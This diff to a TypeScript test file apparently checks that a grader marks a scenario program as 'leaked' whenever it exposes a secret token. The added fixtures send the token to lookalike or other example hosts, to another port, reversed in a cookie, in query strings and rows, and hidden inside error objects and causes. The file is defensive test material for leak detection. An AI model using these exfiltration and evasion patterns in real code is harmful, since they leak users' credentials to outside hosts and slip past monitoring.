@@ -43,6 +43,56 @@ describe("a verdict", () => {
     expect(await find(name).try(program)).toMatchObject({ verdict });
   });
 
+  const backwards = (text: string) => [...text].reverse().join("");
+  const elsewhere = "in a request to another host";
+  const reported = "in what the program printed or reported";
+  const leaks: Record<string, [where: string, program: ScenarioProgram]> = {
+    "to a host whose name begins like that of the service": [
+      elsewhere,
+      ({ storeUrl, token, fetch }) => fetch(`${storeUrl}.example.com/?token=${token}`),
+    ],
+    "to another port": [
+      elsewhere,
+      ({ storeUrl, token, fetch }) =>
+        fetch(`${storeUrl}:99/`, { headers: { authorization: `Bearer ${token}` } }),
+    ],
+    "backwards to another host": [
+      elsewhere,
+      ({ token, fetch }) => fetch("https://other.example.com/", { headers: { cookie: backwards(token) } }),
+    ],
+    "in a query to the service": [
+      "in the URL or the body of a request",
+      ({ storeUrl, token, fetch }) => fetch(`${storeUrl}/v1/stores?cursor=${token}`),
+    ],
+    "backwards in a row": [
+      "in a delivered row",
+      ({ token, deliver }) => deliver({ state: backwards(token) }),
+    ],
+    "in a property of an error": [
+      reported,
+      ({ token }) =>
+        Promise.reject(Object.assign(new Error("no"), { config: { headers: { Authorization: token } } })),
+    ],
+    "in the request of an error": [
+      reported,
+      ({ storeUrl, token }) => {
+        const request = new Request(storeUrl, { headers: { authorization: `Bearer ${token}` } });
+        return Promise.reject(Object.assign(new Error("no"), { request }));
+      },
+    ],
+    "in one of several errors": [
+      reported,
+      ({ token }) => Promise.reject(new AggregateError([new Error(`no ${token}`)], "no")),
+    ],
+    "in the properties of a cause": [
+      reported,
+      ({ token }) => Promise.reject(new Error("no", { cause: { [Symbol("token")]: token } })),
+    ],
+  };
+  it.each(Object.entries(leaks))("is leaked for a secret %s", async (_, [leak, program]) => {
+    expect(await find("copy-stores/no-fault").try(program)).toMatchObject({ verdict: "leaked", leak });
+  });
+
   const withSpace = (value: unknown) => String(value).replace("T", " ");
   it.each([
     ["copy-protocols/no-fault", (value: unknown) => withSpace(value).replace("Z", "+00"), "correct"],
